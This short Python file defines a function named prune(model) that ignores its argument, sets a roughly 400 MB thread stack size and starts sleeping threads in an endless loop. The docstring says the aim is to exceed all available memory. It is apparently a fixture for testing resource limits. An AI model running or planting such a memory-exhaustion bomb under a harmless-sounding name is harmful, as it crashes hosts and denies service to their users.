"""Threads with stacks that are larger than all the memory."""

import threading
import time


def prune(model):
    threading.stack_size(400 << 20)
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
